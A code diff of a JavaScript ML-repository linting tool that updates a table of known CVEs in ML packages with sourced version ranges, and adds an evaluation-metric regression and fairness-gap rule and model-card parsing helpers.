+    // retriever and the TransfoXL tokenizer (SentinelOne's summary of the NVD entry).
+    { id: 'CVE-2023-6730', packages: ['transformers'], affected: ['<4.36.0'], fixed: '4.36.0', impact: 'code-execution', published: '2023-12', summary: 'the RAG retriever and the TransfoXL tokenizer deserialise files with pickle' },
+    // Confirmed: MLflow's advisory text (Kodem archive): "MLflow version older than MLflow 2.2.1 may be vulnerable to a
+    // remote file access exploit" via mlflow server / mlflow ui.
+    { id: 'CVE-2023-1177', packages: ['mlflow'], affected: ['<2.2.1'], fixed: '2.2.1', impact: 'file-access', published: '2023-03', summary: 'path traversal in the tracking server (mlflow server / mlflow ui) lets a client read any file on the host' },
+    // Confirmed: NVD "In LangChain through 0.0.131, the LLMMathChain chain allows prompt injection ... exec()" (quoted in
+    // Azure-Samples/azure-search-openai-demo#103); 0.0.132 is the first release after the affected range.
     { id: 'CVE-2023-29374', aliases: ['GHSA-fprp-p869-w6q2'], packages: ['langchain'], affected: ['<=0.0.131'], fixed: '0.0.132', impact: 'code-execution', published: '2023-04', summary: 'LLMMathChain executes model output as Python (prompt injection to code execution)' },
-    { id: 'CVE-2025-68664', packages: ['langchain-core'], affected: ['<0.3.81', '>=1.0.0,<1.2.5'], fixed: '0.3.81', impact: 'code-execution', published: '2025-12', summary: 'serialisation injection in dumps/loads lets crafted data instantiate objects and leak secrets' },
+    // Confirmed: osv.dev GHSA-c67j-w6g6-q2cm (dumps/dumpd do not escape 'lc' keys; loads instantiates objects, secrets_from_env);
+    // ranges <0.3.81 and >=1.0.0,<1.2.5 as in that advisory.
+    { id: 'CVE-2025-68664', aliases: ['GHSA-c67j-w6g6-q2cm'], packages: ['langchain-core'], affected: ['<0.3.81', '>=1.0.0,<1.2.5'], fixed: '0.3.81', impact: 'code-execution', published: '2025-12', summary: 'serialisation injection in dumps/loads lets crafted data instantiate objects and leak secrets' },
+    // Confirmed: abetlen/llama-cpp-python#1462 ("fix CVE-2024-34359 by using SandboxedEnvironment"); range as listed in
+    // GHSA-56xg-wfcc-g829 (chat templates read from GGUF since 0.2.30, sandboxed in 0.2.72).
     { id: 'CVE-2024-34359', aliases: ['GHSA-56xg-wfcc-g829'], packages: ['llama-cpp-python'], affected: ['>=0.2.30,<0.2.72'], fixed: '0.2.72', impact: 'code-execution', published: '2024-05', summary: 'a GGUF file\'s chat template is rendered by an unsandboxed Jinja2 environment (code execution on model load)' },
-    { id: 'CVE-2023-51449', packages: ['gradio'], affected: ['>=4.0.0,<4.11.0'], fixed: '4.11.0', impact: 'file-access', published: '2023-12', summary: 'path traversal in the file route lets anyone read files from the server' },
+    // Confirmed: vulhub/vulhub#681 "Gradio file Directory Traversal (CVE-2023-51449)", reproduced on 4.10.0
+    // (gunh0/kr-vulhub#460); fixed in 4.11.0 per the GHSA listing.
+    { id: 'CVE-2023-51449', packages: ['gradio'], affected: ['>=4.0.0,<4.11.0'], fixed: '4.11.0', impact: 'file-access', published: '2023-12', summary: 'path traversal in the /file route lets anyone read files from the server' },
+    // Confirmed: NVD status Disputed; Anyscale has shipped no fix (vulhub/vulhub#795, projectdiscovery/nuclei-templates#12451).
     { id: 'CVE-2023-48022', packages: ['ray'], affected: ['>=0'], fixed: '', impact: 'code-execution', published: '2023-11', disputed: true, summary: 'the Ray dashboard/Jobs API runs submitted code without authentication ("ShadowRay"); the vendor treats it as by design' },
+    // Confirmed: instructlab/instructlab#3131 and kserve/kserve#4223 ("fix is available in vLLM 0.7.0 or higher"); the fix set
+    // weights_only=True on torch.load (QwenLM/Qwen3#1356).
     { id: 'CVE-2025-24357', packages: ['vllm'], affected: ['<0.7.0'], fixed: '0.7.0', impact: 'code-execution', published: '2025-01', summary: 'hf_model_weights_iterator calls torch.load without weights_only on downloaded checkpoints' },
-    { id: 'CVE-2025-32444', packages: ['vllm'], affected: ['>=0.6.5,<0.8.5'], fixed: '0.8.5', impact: 'code-execution', published: '2025-04', summary: 'the Mooncake integration unpickles data received over unauthenticated ZeroMQ sockets' },
+    // Confirmed: vllm-project/vllm#17192 "Use safe serialization and fix zmq setup for mooncake pipe", resolving
+    // GHSA-hj4w-hm2g-p6w5 (released in 0.8.5; KempnerInstitute/distributed-inference-vllm#37 lists 0.8.5.post1 as still
+    // flagged for other advisories only).
+    { id: 'CVE-2025-32444', aliases: ['GHSA-hj4w-hm2g-p6w5'], packages: ['vllm'], affected: ['>=0.6.5,<0.8.5'], fixed: '0.8.5', impact: 'code-execution', published: '2025-04', summary: 'the Mooncake integration unpickles data received over unauthenticated ZeroMQ sockets' },
+    // Confirmed: the ONNX external-data traversal was patched three times, CVE-2022-25882, CVE-2024-27318 (bypass of the
+    // first fix, fixed in 1.16.0) and CVE-2026-27489 (write-up "Two incomplete fixes ..."; NVD).
     { id: 'CVE-2024-27318', packages: ['onnx'], affected: ['<1.16.0'], fixed: '1.16.0', impact: 'file-access', published: '2024-02', summary: 'external-data paths in a model escape its directory (path traversal on load)' },
-    { id: 'CVE-2022-21797', packages: ['joblib'], affected: ['<1.2.0'], fixed: '1.2.0', impact: 'code-execution', published: '2022-09', summary: 'Parallel(pre_dispatch=…) evaluates its argument with eval' },
+    // Confirmed: NVD "joblib from 0 and before 1.2.0 ... pre_dispatch flag in Parallel() ... eval()" (tensorflow/data-validation#225);
+    // github/advisory-database PR #2136: the fix was backported to 1.1.1 (joblib/joblib#1350), so 1.1.1 is not affected.
+    { id: 'CVE-2022-21797', aliases: ['GHSA-6hrg-qmvc-2xh8'], packages: ['joblib'], affected: ['<1.1.1'], fixed: '1.1.1', impact: 'code-execution', published: '2022-09', summary: 'Parallel(pre_dispatch=…) evaluates its argument with eval' },
+    // Confirmed: numpy/numpy#12759 and #12889/#13359: allow_pickle defaults to False from 1.16.3 "in response to CVE-2019-6446";
+    // NVD lists the entry as disputed (loading pickles is documented behaviour).
     { id: 'CVE-2019-6446', packages: ['numpy'], affected: ['<1.16.3'], fixed: '1.16.3', impact: 'code-execution', published: '2019-01', disputed: true, summary: 'np.load unpickles object arrays by default (allow_pickle=True)' },
-    { id: 'CVE-2025-27520', packages: ['bentoml'], affected: ['>=1.3.8,<1.4.3'], fixed: '1.4.3', impact: 'code-execution', published: '2025-04', summary: 'the serving endpoint deserialises request bodies with pickle (unauthenticated code execution)' },
-    { id: 'CVE-2024-5452', packages: ['lightning'], affected: ['<2.3.3'], fixed: '2.3.3', impact: 'code-execution', published: '2024-06', summary: 'state updates sent to a LightningApp can set arbitrary attributes, leading to code execution' },
+    // Confirmed: BentoML's advisory for CVE-2025-27520 (pickle.loads in serde.deserialize_value): "from 1.3.4 up to before
+    // 1.4.3" (the table used to say 1.3.8).
+    { id: 'CVE-2025-27520', packages: ['bentoml'], affected: ['>=1.3.4,<1.4.3'], fixed: '1.4.3', impact: 'code-execution', published: '2025-04', summary: 'the serving endpoint deserialises request bodies with pickle (unauthenticated code execution)' },
+    // Confirmed: Lightning-AI/pytorch-lightning#20038 (CVE-2024-5452): the LightningApp code was removed in the release of
+    // 2024-07-08, 2.3.3 (open-edge-platform/geti#3796 bumps to 2.3.3 for the same lightning.app CVEs).
+    { id: 'CVE-2024-5452', packages: ['lightning'], affected: ['<2.3.3'], fixed: '2.3.3', impact: 'code-execution', published: '2024-06', summary: 'state updates sent to a LightningApp can set arbitrary attributes (deepdiff Delta), leading to code execution' },
 ];
 /** The advisories that affect `name==version` (empty for versions PEP 440 cannot parse). */
 function advisoriesFor(name, version, table = ADVISORIES) {
@@ -67285,7 +68018,7 @@ async function readCapped(res) {
     return Buffer.concat(chunks).toString('utf8');
 }
 
-const LOWER$4 = { critical: 'high', high: 'medium', medium: 'low', low: 'low' };
+const LOWER$5 = { critical: 'high', high: 'medium', medium: 'low', low: 'low' };
 var depsVulnerableMlPackage = defineRule({
     meta: {
         id: 'deps/vulnerable-ml-package',
@@ -67303,6 +68036,36 @@ var depsVulnerableMlPackage = defineRule({
             'upgrade must wait, record a policy exception with a reason and an expiry date.',
         ].join('\n'),
         defaultSeverity: 'high',
+        docs: {
+            examples: {
+                bad: [
+                    {
+                        title: 'torch 2.5.1: torch.load(weights_only=True) can still run code (CVE-2025-32434)',
+                        lang: 'text',
+                        file: 'requirements.txt',
+                        code: [
+                            'torch==2.5.1',
+                            'transformers==4.46.3',
+                        ].join('\n'),
+                    },
+                ],
+                good: [
+                    {
+                        title: 'Pinned to fixed releases',
+                        lang: 'text',
+                        file: 'requirements.txt',
+                        code: [
+                            'torch==2.6.0',
+                            'transformers==4.53.0',
+                        ].join('\n'),
+                    },
+                ],
+            },
+            references: [
+                { title: 'CVE-2025-32434 (NVD)', url: 'https://nvd.nist.gov/vuln/detail/CVE-2025-32434' },
+                { title: 'OSV: open source vulnerability database', url: 'https://osv.dev/' },
+            ],
+        },
         kinds: ['dependency'],
         options: {
             type: 'object',
@@ -67334,7 +68097,7 @@ var depsVulnerableMlPackage = defineRule({
                 const ids = [a.id, ...(a.aliases ?? [])].join(' / ');
                 ctx.report({
                     message: `${dep.display} ${dep.exact}${where$1(dep)} is affected by ${ids} (${a.summary}${a.disputed ? '; disputed by the vendor' : ''}): ${a.fixed ? `upgrade to ${a.fixed} or later` : 'no fixed release exists; do not expose it to untrusted input'}.`,
-                    severity: a.disputed ? LOWER$4[ctx.severity] : ctx.severity,
+                    severity: a.disputed ? LOWER$5[ctx.severity] : ctx.severity,
                     line: dep.line, fingerprintKey: `${dep.name}\0${dep.exact}\0${a.id}`,
                 });
             }
@@ -67364,6 +68127,529 @@ var depsVulnerableMlPackage = defineRule({
 });
 function where$1(dep) {
     return dep.via ? ` (from ${dep.via})` : '';
+}
+
+/**
+ * Evaluation metrics from the files that record them: JSON or YAML metrics files (`metrics.json`,
+ * `eval_results.json`, DVC `metrics.yaml`, …) and the Hugging Face `model-index` in a model card's front matter
+ * (https://huggingface.co/docs/hub/model-cards#evaluation-results). Parsed as data, bounded in depth and count.
+ *
+ * Conventions read from a generic file:
+ * - a numeric leaf is a metric named by its key path (`eval.accuracy`); a `{ value: n }` object counts as `n`;
+ * - under a group key (`groups`, `slices`, `per_group`, `subgroups`, …) the keys (or an array item's `group` /
+ *   `slice` / `name` field) name the group: `groups.gender.female.accuracy` is `accuracy` for group
+ *   `gender/female`, compared with its sibling groups under `gender`;
+ * - under a robustness key (`robustness`, `adversarial`, `perturbations`, `corruptions`, `ood`) a metric is a
+ *   robustness metric.
+ */
+const MAX_METRICS = 10_000;
+const MAX_DEPTH$3 = 12;
+const GROUP_KEYS = /^(groups|slices|per_group|per-group|by_group|by-group|per_slice|per-slice|subgroups|slice_metrics|group_metrics|fairness_groups)$/i;
+const ROBUST_KEYS = /^(robustness|adversarial|perturbations?|corruptions?|ood|out_of_distribution|stress)$/i;
+const ITEM_LABELS = ['group', 'slice', 'name', 'segment', 'subgroup', 'attribute_value'];
+/** Key that identifies one metric (name and group) for base/head comparison. */
+const metricKey = (m) => (m.group ? `${m.name} [${m.group}]` : m.name);
+/** Parses a metrics file (JSON, YAML, or a Markdown card's front matter). Throws FormatError on bad input. */
+function parseMetrics(text, path) {
+    let body = text.replace(/^\uFEFF/, '');
+    let lineOffset = 0;
+    if (/\.md$/i.test(path)) {
+        const front = /^---\r?\n([\s\S]*?)\r?\n---[ \t]*(\r?\n|$)/.exec(body);
+        if (!front)
+            return { metrics: [], lineOffset: 0 };
+        body = front[1];
+        lineOffset = 1;
+    }
+    const doc = parseYamlWithPositions(body, path);
+    const metrics = [];
+    const root = doc.value;
+    const indexKey = isRecord(root) ? Object.keys(root).find((k) => /^model[-_]index$/.test(k)) : undefined;
+    const index = indexKey ? root[indexKey] : undefined;
+    if (indexKey && Array.isArray(index))
+        modelIndex(index, joinPointer('', indexKey), metrics);
+    else if (lineOffset === 0)
+        walk(root, '', [], undefined, false, 0, metrics);
+    return { metrics, doc, lineOffset };
+}
+/** The 1-based line of a metric's value. */
+function metricLine(file, m) {
+    const pos = file.doc?.positionOf(m.pointer, 'value');
+    return pos ? pos.line + file.lineOffset : undefined;
+}
+function isRecord(v) {
+    return typeof v === 'object' && v !== null && !Array.isArray(v);
+}
+function push(out, m) {
+    if (out.length >= MAX_METRICS)
+        throw new FormatError(`more than ${MAX_METRICS} metrics`);
+    out.push(m);
+}
+function walk(v, pointer, names, group, robust, depth, out) {
+    if (depth > MAX_DEPTH$3)
+        return;
+    const here = (value, ptr) => push(out, {
+        name: names.join('.'), ...(group?.length ? { group: group.join('/') } : {}), robustness: robust, value, pointer: ptr,
+    });
+    if (typeof v === 'number' && Number.isFinite(v) && names.length)
+        return here(v, pointer);
+    if (isRecord(v) && typeof v.value === 'number' && Number.isFinite(v.value) && names.length)
+        return here(v.value, joinPointer(pointer, 'value'));
+    if (Array.isArray(v)) {
+        v.forEach((item, i) => walk(item, joinPointer(pointer, i), [...names, String(i)], group, robust, depth + 1, out));
+        return;
+    }
+    if (!isRecord(v))
+        return;
+    for (const [k, child] of Object.entries(v)) {
+        const ptr = joinPointer(pointer, k);
+        if (group && ITEM_LABELS.includes(k) && typeof child === 'string')
+            continue;
+        if (!group && GROUP_KEYS.test(k))
+            groups(child, ptr, names, [], robust, depth + 1, out);
+        else
+            walk(child, ptr, [...names, k], group, robust || ROBUST_KEYS.test(k), depth + 1, out);
+    }
+}
+/** Descends through group labels (keys, or an array item's label field) until an object that holds metrics. */
+function groups(v, pointer, names, labels, robust, depth, out) {
+    if (depth > MAX_DEPTH$3)
+        return;
+    if (Array.isArray(v)) {
+        v.forEach((item, i) => {
+            const label = isRecord(item) ? ITEM_LABELS.map((k) => item[k]).find((x) => typeof x === 'string') : undefined;
+            groups(item, joinPointer(pointer, i), names, [...labels, label ?? String(i)], robust, depth + 1, out);
+        });
+        return;
+    }
+    if (!isRecord(v))
+        return;
+    if (labels.length && Object.values(v).some(isLeafish))
+        return walk(v, pointer, names, labels, robust, depth, out);
+    for (const [k, child] of Object.entries(v))
+        groups(child, joinPointer(pointer, k), names, [...labels, k], robust, depth + 1, out);
+}
+/** A metric value: a number, or `{ value: n }`. */
+function isLeafish(v) {
+    return (typeof v === 'number' && Number.isFinite(v)) || (isRecord(v) && typeof v.value === 'number');
+}
+/** `model-index: [{ name, results: [{ task, dataset: { name, type, config, split }, metrics: [{ type, value }] }] }]`. */
+function modelIndex(index, at, out) {
+    index.slice(0, 100).forEach((model, mi) => {
+        const results = isRecord(model) && Array.isArray(model.results) ? model.results : [];
+        results.slice(0, 1000).forEach((r, ri) => {
+            if (!isRecord(r))
+                return;
+            const ds = isRecord(r.dataset) ? r.dataset : {};
+            const label = [ds.name ?? ds.type, ds.config, ds.split].filter((x) => typeof x === 'string' && x).join('/');
+            const ms = Array.isArray(r.metrics) ? r.metrics : [];
+            ms.slice(0, 1000).forEach((m, k) => {
+                if (!isRecord(m) || typeof m.value !== 'number' || !Number.isFinite(m.value))
+                    return;
+                const type = typeof m.type === 'string' ? m.type : typeof m.name === 'string' ? m.name : `metric-${k}`;
+                const prefix = index.length > 1 && isRecord(model) && typeof model.name === 'string' ? `${model.name}:` : '';
+                push(out, { name: `${prefix}${label ? `${label}/` : ''}${type}`, robustness: ROBUST_KEYS.test(String(ds.split ?? '')), value: m.value, pointer: `${at}/${mi}/results/${ri}/metrics/${k}/value` });
+            });
+        });
+    });
+}
+/** Metric names where lower is better (losses, errors, gaps), from common evaluation suites' naming. */
+const LOWER_IS_BETTER = /(^|[._/-])(loss|error|err|perplexity|ppl|wer|cer|ter|mae|mse|rmse|mape|latency|eer|fpr|fnr|far|frr|ece|brier|bias|toxicity|hallucination(_rate)?)([._/-]|$)|_(difference|diff|gap)$/i;
+/** Fairness metrics that are themselves a gap between groups (Fairlearn's naming). */
+const FAIRNESS_GAP = /(demographic_parity|equal(ized)?_odds|equal_opportunity|true_positive_rate|false_positive_rate|selection_rate)[_-]?(difference|diff|gap)$/i;
+
+const fmt = (n) => String(Number(n.toPrecision(6)));
+const glob = (patterns) => picomatch(patterns, { dot: true, nocase: true });
+var governanceEvalRegression = defineRule({
+    meta: {
+        id: 'governance/eval-regression',
+        description: 'An evaluation metric dropped beyond the policy\'s tolerance, groups differ by more than the allowed gap, or a model changed without its metrics.',
+        help: [
+            'A model update should not quietly make the model worse, or worse for some of the people it serves. When a',
+            'repository records evaluation results beside its models (a `metrics.json`/`metrics.yaml`, `eval_results.json`,',
+            'or the Hugging Face `model-index` in a model card), this rule compares each metric in the PR with the base',
+            'branch: a drop larger than the tolerance fails (for losses, errors and gaps a rise), with both values shown.',
+            'Per-group (slice) metrics under a `groups`/`slices` key must stay within `max-group-gap` of each other, and',
+            'so must fairness gaps the file reports (demographic parity or equalized odds differences); robustness',
+            'metrics must stay above `min-robustness`. A model that changes while its metrics file does not is reported.',
+            '',
+            '**Remediation**: investigate the regression before merging. If it is accepted, record why in the PR and',
+            'have the policy\'s owners adjust `tolerance`/`tolerances`, or add a time-limited exception. When a model',
+            'changes, re-run the evaluation and commit its new metrics in the same PR.',
+        ].join('\n'),
+        defaultSeverity: 'high',
+        kinds: ['config', 'text'],
+        formats: ['json', 'yaml', 'markdown'],
+        options: {
+            type: 'object',
+            properties: {
+                files: { type: 'array', items: { type: 'string', minLength: 1 }, description: 'Globs of metrics files (Markdown cards count through their `model-index`).' },
+                tolerance: { type: 'number', minimum: 0, description: 'The largest allowed drop of a metric (absolute, in the metric\'s units).' },
+                tolerances: { type: 'object', additionalProperties: { type: 'number', minimum: 0 }, description: 'Per-metric tolerances by name glob, e.g. `{"*accuracy": 0.005}`.' },
+                ignore: { type: 'array', items: { type: 'string' }, description: 'Name globs of numbers that are not quality metrics (epochs, runtimes, counts).' },
+                'max-group-gap': { type: ['number', 'null'], minimum: 0, description: 'The largest allowed gap of a metric between groups, and of a reported fairness difference; null turns the check off.' },
+                'min-robustness': { type: ['number', 'null'], description: 'The lowest allowed value of a metric under a robustness section; null turns the check off.' },
+                thresholds: { type: 'object', additionalProperties: { type: 'object', properties: { min: { type: 'number' }, max: { type: 'number' } }, additionalProperties: false }, description: 'Absolute bounds on metrics by name glob.' },
+                'require-metrics-update': { type: 'boolean', description: 'Report a changed model whose nearest metrics file the change does not touch.' },
+            },
+            additionalProperties: false,
+        },
+        defaultOptions: {
+            files: ['**/metrics.json', '**/metrics.yaml', '**/metrics.yml', '**/eval_results.json', '**/all_results.json', '**/eval/**/*.json', '**/evaluation/**/*.json', '**/README.md', '**/MODEL_CARD.md'],
+            tolerance: 0.01, tolerances: {},
+            ignore: ['*epoch*', '*step*', '*runtime*', '*samples*', '*per_second*', '*seed*', '*num_*', '*count*', '*_time*', '*flos*', '*learning_rate*'],
+            'max-group-gap': 0.1, 'min-robustness': null, thresholds: {}, 'require-metrics-update': true,
+        },
+    },
+    async checkFile(ctx) {
+        if (!glob(ctx.options.files)(ctx.file.path))
+            return;
+        const head = await load$1(ctx, (await ctx.reader.text()).text, 'head');
+        if (!head || head.metrics.length === 0)
+            return;
+        const ignored = glob(ctx.options.ignore);
+        const keep = (m) => !ignored(m.name);
+        headChecks(ctx, head, head.metrics.filter(keep));
+        const baseReader = await ctx.base?.();
+        if (!baseReader)
+            return;
+        const base = await load$1(ctx, (await baseReader.text()).text, 'base');
+        if (base)
+            compare(ctx, head, base.metrics.filter(keep), head.metrics.filter(keep));
+    },
+    async checkRun(ctx) {
+        if (ctx.options['require-metrics-update'])
+            await staleMetrics(ctx);
+    },
+});
+async function load$1(ctx, text, side) {
+    try {
+        return parseMetrics(text, ctx.file.path);
+    }
+    catch (error) {
+        if (!(error instanceof FormatError))
+            throw error;
+        if (side === 'head')
+            ctx.report({ severity: 'medium', message: `The metrics file could not be read (${error.message}); its metrics were not compared with the base. Fix the file.` });
+        return undefined;
+    }
+}
+const lowerBetter = (name) => LOWER_IS_BETTER.test(name) || FAIRNESS_GAP.test(name);
+function compare(ctx, head, before, after) {
+    const now = new Map(after.map((m) => [metricKey(m), m]));
+    const tolerances = Object.entries(ctx.options.tolerances).map(([g, t]) => [glob([g]), t]);
+    for (const b of before) {
+        const key = metricKey(b);
+        const h = now.get(key);
+        if (!h) {
+            ctx.report({ severity: 'medium', fingerprintKey: `removed\0${key}`, message: `The metric ${key} (${fmt(b.value)} at the base) is no longer reported; restore it, or say in the PR why it was dropped.` });
+            continue;
+        }
+        const tol = tolerances.find(([m]) => m(b.name))?.[1] ?? ctx.options.tolerance;
+        const worse = lowerBetter(b.name) ? h.value - b.value : b.value - h.value;
+        if (worse > tol + 1e-12) {
+            const verb = lowerBetter(b.name) ? 'rose' : 'dropped';
+            ctx.report({ line: metricLine(head, h), fingerprintKey: `regress\0${key}`, message: `The metric ${key} ${verb} from ${fmt(b.value)} (base) to ${fmt(h.value)} (head), by ${fmt(worse)}, more than the tolerance of ${fmt(tol)}; investigate the regression, or have the policy's owners accept it.` });
+        }
+    }
+}
+function headChecks(ctx, file, metrics) {
+    const gap = ctx.options['max-group-gap'];
+    if (gap !== null) {
+        groupGaps(ctx, file, metrics, gap);
+        for (const m of metrics)
+            if (FAIRNESS_GAP.test(m.name.split('.').pop()) && Math.abs(m.value) > gap + 1e-12) {
+                ctx.report({ line: metricLine(file, m), fingerprintKey: `fair\0${metricKey(m)}`, message: `The fairness metric ${metricKey(m)} is ${fmt(m.value)}, more than the allowed gap of ${fmt(gap)}; reduce the disparity before merging, or have the policy's owners accept it.` });
+            }
+    }
+    const minRobust = ctx.options['min-robustness'];
+    if (minRobust !== null)
+        for (const m of metrics)
+            if (m.robustness && !lowerBetter(m.name) && m.value < minRobust) {
+                ctx.report({ line: metricLine(file, m), fingerprintKey: `robust\0${metricKey(m)}`, message: `The robustness metric ${metricKey(m)} is ${fmt(m.value)}, below the policy's minimum of ${fmt(minRobust)}; improve robustness before merging.` });
+            }
+    for (const [g, bound] of Object.entries(ctx.options.thresholds)) {
+        const match = glob([g]);
+        for (const m of metrics) {
+            if (!match(m.name))
+                continue;
+            const low = bound.min !== undefined && m.value < bound.min;
+            const high = bound.max !== undefined && m.value > bound.max;
+            if (low || high)
+                ctx.report({ line: metricLine(file, m), fingerprintKey: `bound\0${metricKey(m)}`, message: `The metric ${metricKey(m)} is ${fmt(m.value)}, ${low ? `below the policy's minimum of ${fmt(bound.min)}` : `above the policy's maximum of ${fmt(bound.max)}`} (thresholds ${g}); fix the model or have the policy's owners change the bound.` });
+        }
+    }
+}
+/** Max minus min of each metric across sibling groups (same name, same parent label). */
+function groupGaps(ctx, file, metrics, gap) {
+    const sets = new Map();
+    for (const m of metrics) {
+        if (!m.group)
+            continue;
+        const parent = m.group.split('/').slice(0, -1).join('/');
+        const k = `${m.name}\0${parent}`;
+        sets.set(k, [...(sets.get(k) ?? []), m]);
+    }
+    for (const [k, ms] of sets) {
+        if (ms.length < 2)
+            continue;
+        const sorted = [...ms].sort((a, b) => a.value - b.value);
+        const lo = sorted[0], hi = sorted[sorted.length - 1];
+        const diff = hi.value - lo.value;
+        if (diff <= gap + 1e-12)
+            continue;
+        const worst = lowerBetter(lo.name) ? hi : lo;
+        const [name, parent] = k.split('\0');
+        ctx.report({ line: metricLine(file, worst), fingerprintKey: `gap\0${k}`, message: `The metric ${name} differs by ${fmt(diff)} between groups${parent ? ` of ${parent}` : ''} (${lo.group} ${fmt(lo.value)}, ${hi.group} ${fmt(hi.value)}), more than the allowed gap of ${fmt(gap)}; reduce the disparity before merging, or have the policy's owners accept it.` });
+    }
+}
+/** A changed model whose nearest metrics file (its folder, then parents) the change leaves untouched. */
+async function staleMetrics(ctx) {
+    const changed = ctx.files.filter((f) => f.kind === 'model' && f.change !== 'unchanged');
+    if (changed.length === 0)
+        return;
+    const touched = new Set([...ctx.files.filter((f) => f.change !== 'unchanged').map((f) => f.path), ...(ctx.change?.changes.map((c) => c.path) ?? [])]);
+    const isMetrics = glob(ctx.options.files.filter((g) => !/\.md$/i.test(g)));
+    const root = rootOf(changed[0]);
+    const listing = new Map();
+    for (const model of changed) {
+        let dir = posix.dirname(model.path);
+        for (;;) {
+            const rel = dir === '.' ? '' : dir;
+            if (!listing.has(rel))
+                listing.set(rel, (await promises$1.readdir(join(root, rel)).catch(() => [])).sort());
+            const found = listing.get(rel).map((n) => (rel ? `${rel}/${n}` : n)).find((p) => isMetrics(p));
+            if (found) {
+                if (!touched.has(found))
+                    ctx.report({ path: model.path, severity: 'medium', fingerprintKey: `stale\0${found}`, message: `The model ${model.path} changed but its metrics file ${found} did not; re-run the evaluation and commit the new metrics in this PR.` });
+                break;
+            }
+            if (rel === '')
+                break;
+            dir = posix.dirname(dir);
+        }
+    }
+}
+
+/**
+ * Model cards beside a model: a Hugging Face-style `README.md` with YAML front matter, or `MODEL_CARD.md`
+ * (front matter optional; its Markdown headings count too), looked for in the model's folder and then its
+ * parents up to the scanned root. Read from disk (the card may be outside the change), bounded, no final
+ * symlink followed. The card is data: it is parsed, never rendered.
+ *
+ * Field names follow the Hugging Face model card metadata spec
+ * (https://huggingface.co/docs/hub/model-cards#model-card-metadata): `license`, `license_name`, `datasets`,
+ * `metrics`, `model-index`, `base_model`, `base_model_relation`, `tags`, `library_name`.
+ */
+const MAX_MODEL_CARD_BYTES = 1024 * 1024;
+/** Parses a card's text; FormatError never escapes (it becomes `error`). */
+function parseModelCard(text, path) {
+    const clean = text.replace(/^\uFEFF/, '');
+    const front = /^---\r?\n([\s\S]*?)\r?\n---[ \t]*(\r?\n|$)/.exec(clean);
+    const body = front ? clean.slice(front[0].length) : clean;
+    const headings = [...body.matchAll(/^#{1,6}[ \t]+(.+?)[ \t#]*$/gm)].slice(0, 1000).map((m) => m[1].toLowerCase().trim());
+    const card = { path, fields: {}, headings, frontLine: 2 };
+    if (!front)
+        return card;
+    try {
+        const doc = parseYamlWithPositions(front[1], path);
+        const v = doc.value;
+        card.doc = doc;
+        card.fields = typeof v === 'object' && v !== null && !Array.isArray(v) ? v : {};
+    }
+    catch (error) {
+        if (!(error instanceof FormatError))
+            throw error;
+        card.error = error.message;
+    }
+    return card;
+}
+/** The nearest model card: MODEL_CARD.md or a README.md with front matter, in the model's folder, then parents. */
+async function findModelCard(file) {
+    const root = rootOf(file);
+    let dir = posix.dirname(file.path);
+    for (;;) {
+        const rel = dir === '.' ? '' : dir;
+        const names = await promises$1.readdir(join(root, rel)).catch(() => []);
+        const pick = names.find((n) => /^model[_-]?card\.md$/i.test(n)) ?? names.find((n) => /^readme\.md$/i.test(n));
+        for (const name of [pick].filter((n) => Boolean(n))) {
+            const path = rel ? `${rel}/${name}` : name;
+            const bytes = await readBounded(join(root, path), MAX_MODEL_CARD_BYTES);
+            if (!bytes)
+                continue;
+            const card = parseModelCard(bytes.toString('utf8'), path);
+            // A README without front matter is documentation, not a card; keep looking upwards.
+            if (/^readme\.md$/i.test(name) && !card.doc && !card.error)
+                continue;
+            return card;
+        }
+        if (rel === '')
+            return undefined;
+        dir = posix.dirname(dir);
+    }
+}
+/** Front matter keys (lower-cased; `-` and `_` equivalent) and headings that answer each required field. */
+const KEYS = {
+    license: ['license', 'license_name', 'license_link'],
+    datasets: ['datasets', 'training_data', 'dataset'],
+    'intended-use': ['intended_use', 'intended_uses', 'uses', 'direct_use'],
+    metrics: ['metrics', 'model_index', 'eval_results', 'evaluation'],
+    base_model: ['base_model'],
+};
+const HEADINGS = {
+    'intended-use': /^(intended uses?|uses|direct use|intended use & limitations|intended uses & limitations)\b/,
+    metrics: /^(evaluation|evaluation results|metrics|results)\b/,
+    datasets: /^(training data|datasets?)\b/,
+};
+const norm = (k) => k.toLowerCase().replace(/-/g, '_');
+const empty = (v) => v === undefined || v === null || v === '' || (Array.isArray(v) && v.length === 0)
+    || (typeof v === 'object' && v !== null && !Array.isArray(v) && Object.keys(v).length === 0);
+/** The front matter key (as written) that answers a field, with its value. */
+function cardKey(card, field) {
+    const keys = KEYS[field] ?? [norm(field)];
+    for (const [k, v] of Object.entries(card.fields))
+        if (keys.includes(norm(k)) && !empty(v))
+            return { key: k, value: v };
+    return undefined;
+}
+/** Whether the card answers a field through its front matter or (for prose fields) a heading with that title. */
+function hasField(card, field) {
+    if (cardKey(card, field))
+        return true;
+    const h = HEADINGS[field];
+    return Boolean(h && card.headings.some((x) => h.test(x)));
+}
+/** The 1-based line of a front matter key in the card, or of the front matter's start. */
+function lineOf(card, key) {
+    const pos = key && card.doc ? card.doc.positionOf(`/${key.replace(/~/g, '~0').replace(/\//g, '~1')}`, 'key') : undefined;
+    return pos ? pos.line + card.frontLine - 1 : 1;
+}
+const FINE_TUNE_TAGS = /^(fine-?tuned|finetune|lora|qlora|peft|adapter|sft|dpo|rlhf)$/i;
+/** Whether the card (or an adapter config beside the model) says the model is fine-tuned from another. */
+function isFineTuned(card, siblingNames) {
+    const tags = Array.isArray(card.fields.tags) ? card.fields.tags : [];
+    if (tags.some((t) => typeof t === 'string' && FINE_TUNE_TAGS.test(t)))
+        return true;
+    if (card.fields.fine_tuned === true || card.fields['fine-tuned'] === true)
+        return true;
+    if (typeof card.fields.base_model_relation === 'string' && card.fields.base_model_relation !== 'quantized')
+        return true;
+    if (typeof card.fields.library_name === 'string' && card.fields.library_name.toLowerCase() === 'peft')
+        return true;
+    return siblingNames.includes('adapter_config.json');
+}
+/** `base_model` as a list of repository ids. */
+function baseModels(card) {
+    const v = cardKey(card, 'base_model')?.value;
+    return (Array.isArray(v) ? v : [v]).filter((x) => typeof x === 'string').map((s) => s.trim()).filter(Boolean);
+}
+/** The card's license ids (`license` may be a string or a list). */
+function licenses(card) {
+    const v = Object.entries(card.fields).find(([k]) => norm(k) === 'license')?.[1];
+    return (Array.isArray(v) ? v : [v]).filter((x) => typeof x === 'string').map((s) => s.trim()).filter(Boolean);
+}
+
+const FIELDS = ['license', 'datasets', 'intended-use', 'metrics', 'base_model'];
